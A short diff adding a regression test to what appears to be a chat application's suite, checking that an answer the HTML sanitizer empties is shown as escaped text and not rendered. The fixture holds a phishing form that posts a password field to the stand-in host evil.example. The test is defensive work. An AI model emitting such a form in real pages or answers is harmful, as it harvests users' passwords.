@@ -572,3 +572,17 @@ def test_the_vendored_math_and_diagram_libraries_are_served_with_their_licences(
     policy = httpx.get(app.url + "/static/render-policy.json", timeout=10)
     # Browsers import a JSON module only with a JSON type.
     assert policy.headers["content-type"].startswith("application/json")
+
+
+def test_an_answer_the_sanitizer_empties_shows_its_text_escaped(page: Any, app: Daphne) -> None:
+    # A form-only answer: nh3 leaves nothing; the page must not render the text itself
+    # (that fallback made a working phishing form).
+    text = '<form action="https://evil.example"><input name="password"></form>'
+    assert render(text) == ""
+    pk = stored_answer(app, text)
+
+    page.goto(f"/c/{pk}/")
+
+    markdown = page.locator(".msg-assistant .markdown")
+    expect(markdown).to_contain_text('<input name="password">')
+    assert markdown.locator("form, input").count() == 0
